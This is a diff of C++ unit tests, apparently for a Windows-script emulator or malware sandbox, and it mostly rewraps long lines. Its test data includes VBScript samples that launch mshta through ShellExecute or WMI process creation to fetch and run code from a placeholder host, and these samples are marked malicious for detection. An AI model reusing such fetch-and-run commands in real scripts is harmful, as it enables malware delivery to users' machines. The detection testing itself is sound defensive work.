@@ -16,10 +16,14 @@ TEST(ScriptFile, IsKnownByItsName) {
   const struct {
     std::string_view name, type;
   } rows[] = {
-      {"a.vbs", "application/x-wsh-vbscript"}, {"A.JS", "application/x-wsh-jscript"},
-      {"x.wsf", "application/x-wsh-wsf"},      {"x.hta", "application/hta"},
-      {"x.vbe", "application/x-wsh-vbscript"}, {"x.jse", "application/x-wsh-jscript"},
-      {"x.html", ""},                          {"vbs", ""},
+      {"a.vbs", "application/x-wsh-vbscript"},
+      {"A.JS", "application/x-wsh-jscript"},
+      {"x.wsf", "application/x-wsh-wsf"},
+      {"x.hta", "application/hta"},
+      {"x.vbe", "application/x-wsh-vbscript"},
+      {"x.jse", "application/x-wsh-jscript"},
+      {"x.html", ""},
+      {"vbs", ""},
       {"", ""},
   };
   for (const auto& row : rows) {
@@ -69,16 +73,24 @@ TEST_P(ScriptFiles, Run) {
 INSTANTIATE_TEST_SUITE_P(
     Rows, ScriptFiles,
     ::testing::Values(
-        Row{"vbs", "a.vbs", "WScript.Echo \"a\" & 1 + 1\nMsgBox WScript.ScriptName", {"Echo: a2", "MsgBox: a.vbs"}},
-        Row{"js", "a.js", "WScript.Echo(typeof document, typeof WScript.CreateObject);", {"Echo: undefined function"}},
+        Row{"vbs",
+            "a.vbs",
+            "WScript.Echo \"a\" & 1 + 1\nMsgBox WScript.ScriptName",
+            {"Echo: a2", "MsgBox: a.vbs"}},
+        Row{"js",
+            "a.js",
+            "WScript.Echo(typeof document, typeof WScript.CreateObject);",
+            {"Echo: undefined function"}},
         Row{"wsf",
             "a.wsf",
-            "<?xml version='1.0'?>\n<job id='x'>\n<script language='VBScript'><![CDATA[\nFunction two()\ntwo = 2\n"
+            "<?xml version='1.0'?>\n<job id='x'>\n<script language='VBScript'><![CDATA[\nFunction two()\ntwo "
+            "= 2\n"
             "End Function\n]]></script>\n<script language='JScript'>WScript.Echo(two() + 1);</script></job>",
             {"Echo: 3"}},
         Row{"hta",
             "a.hta",
-            "<html><script language=VBScript>MsgBox TypeName(CreateObject(\"WScript.Shell\"))</script></html>",
+            "<html><script language=VBScript>MsgBox "
+            "TypeName(CreateObject(\"WScript.Shell\"))</script></html>",
             {"MsgBox: Object"}},
         // Made by the encoder's tables from: WScript.Echo "a<b>@" & 1 + 1, and an echo of letters and digits.
         Row{"vbe",
@@ -86,10 +98,7 @@ INSTANTIATE_TEST_SUITE_P(
             "#@~^ZAAAAA==\tUm.bwDR21tK~Jm@!8@*@$J~',FP3~F@#@&U^.kaYc2^tG~\"+2Vm^+vJC81N+WL4k%3^h\tW2$DkY"
             "E7hXzyZF+&W*{R,JB~J$J~,E}J*nB4AAA==^#~@",
             {"Echo: a<b>@2", "Echo: abcdefghijklmnopQrstuvwxyz0123456789"}},
-        Row{"jse",
-            "a.jse",
-            "#@~^IQAAAA==\tUm.bwDR21tKcBaVCk\tPv~3P`8~_,F#*IEAkAAA==^#~@",
-            {"Echo: plain 2"}},
+        Row{"jse", "a.jse", "#@~^IQAAAA==\tUm.bwDR21tKcBaVCk\tPv~3P`8~_,F#*IEAkAAA==^#~@", {"Echo: plain 2"}},
         Row{"half_encoded", "a.js", "WScript.Echo('#@~^' + 1);", {"Echo: #@~^1"}},
         Row{"quit", "a.vbs", "WScript.Echo 1\nWScript.Quit\nWScript.Echo 2", {"Echo: 1"}},
         Row{"quit_js", "a.js", "try { WScript.Quit(0); } catch (e) {} WScript.Echo('not reached');", {}},
@@ -97,16 +106,25 @@ INSTANTIATE_TEST_SUITE_P(
             "a.js",
             "var t = new Date(); WScript.Sleep(90000); WScript.Echo(new Date() - t >= 90000);",
             {"Echo: true"}},
-        Row{"no_arguments", "a.vbs", "WScript.Echo WScript.Arguments.Count & WScript.Arguments.Length", {"Echo: 00"}},
+        Row{"no_arguments",
+            "a.vbs",
+            "WScript.Echo WScript.Arguments.Count & WScript.Arguments.Length",
+            {"Echo: 00"}},
         Row{"dictionary_in_vbscript",
             "a.vbs",
-            "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", 1\nd(\"b\") = 2\nd.Item(\"c\") = 3\n"
+            "Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", 1\nd(\"b\") = 2\nd.Item(\"c\") = "
+            "3\n"
             "WScript.Echo d.Count & d(\"b\") & d.Item(\"c\") & d.Exists(\"z\")",
             {"Echo: 323False"}},
-        Row{"console", "a.js", "WScript.StdOut.WriteLine('x'); WScript.Echo(WScript.FullName.length > 0)", {"Echo: true"}},
+        Row{"console",
+            "a.js",
+            "WScript.StdOut.WriteLine('x'); WScript.Echo(WScript.FullName.length > 0)",
+            {"Echo: true"}},
         Row{"utf_16",
             "a.vbs",
-            std::string("\xFF\xFEM\0s\0g\0B\0o\0x\0 \0" "1\0", 18),
+            std::string("\xFF\xFEM\0s\0g\0B\0o\0x\0 \0"
+                        "1\0",
+                        18),
             {"MsgBox: 1"}}),
     [](const auto& row) { return row.param.name; });
 
@@ -136,7 +154,8 @@ TEST(ScriptFile, ADownloaderIsConvictedWithWhatItFetched) {
     intel::VisitRecord visit = inspect(sites, row.file, row.text, blobs);
     EXPECT_EQ(intel::name(visit.verdict), "malicious");
     EXPECT_THAT(visit.reasons, Contains(HasSubstr("and had it run")));
-    EXPECT_THAT(events_of(visit, "file"), Contains(HasSubstr("specimen.exe: a Windows program of 256 bytes")));
+    EXPECT_THAT(events_of(visit, "file"),
+                Contains(HasSubstr("specimen.exe: a Windows program of 256 bytes")));
     EXPECT_THAT(events_of(visit, "command"), Contains(HasSubstr("specimen.exe")));
     ASSERT_EQ(visit.nodes.size(), 2u);
     EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
@@ -153,13 +172,15 @@ TEST(ScriptFile, VerdictsOfFilesAndCommands) {
     std::string text;
     std::string_view verdict;
   } rows[] = {
-      {"a_command_that_fetches", "a.vbs", "CreateObject(\"Shell.Application\").ShellExecute \"mshta\", \"{a}/next\"",
-       "malicious"},
+      {"a_command_that_fetches", "a.vbs",
+       "CreateObject(\"Shell.Application\").ShellExecute \"mshta\", \"{a}/next\"", "malicious"},
       {"wmi_process", "a.vbs",
-       "GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create \"mshta {a}/next\"", "malicious"},
+       "GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create \"mshta {a}/next\"",
+       "malicious"},
       {"a_command", "a.js", "WScript.CreateObject('WScript.Shell').Run('notepad', 1);", "suspicious"},
       {"a_harmless_note", "a.vbs",
-       "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\note.txt\")\nf.Write \"x\"\n"
+       "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\note.txt\")\nf.Write "
+       "\"x\"\n"
        "f.Close",
        "benign"},
       {"a_dropped_program", "a.vbs",
@@ -182,9 +203,15 @@ TEST(ScriptFile, PagesRunVbScriptInUrlsAndTimers) {
       {"iframe", "<iframe src='vbscript:MsgBox 3'></iframe>", "ie6-winxp", {"MsgBox: 3"}},
       {"timeout", "<script>setTimeout('MsgBox 4 & 5', 10, 'VBScript')</script>", "ie8-winxp", {"MsgBox: 45"}},
       {"interval",
-       "<script>var t = setInterval('clearInterval(t) : MsgBox 6', 10, 'vbscript')</script>", "ie8-winxp",
+       "<script>var t = setInterval('clearInterval(t) : MsgBox 6', 10, 'vbscript')</script>",
+       "ie8-winxp",
        {"MsgBox: 6"}},
-      {"encoded", "<script language='JScript.Encode'>" "#@~^DQAAAA==C^+.D`8P_,F*IcQMAAA==^#~@" "</script>", "ie8-winxp", {"alert: 2"}},
+      {"encoded",
+       "<script language='JScript.Encode'>"
+       "#@~^DQAAAA==C^+.D`8P_,F*IcQMAAA==^#~@"
+       "</script>",
+       "ie8-winxp",
+       {"alert: 2"}},
       {"exec_script", "<script>execScript('MsgBox 7', 'VBScript')</script>", "ie8-winxp", {"MsgBox: 7"}},
       {"elsewhere", "<script>location = 'vbscript:MsgBox 1'</script>", "chrome-win10", {}},
   };
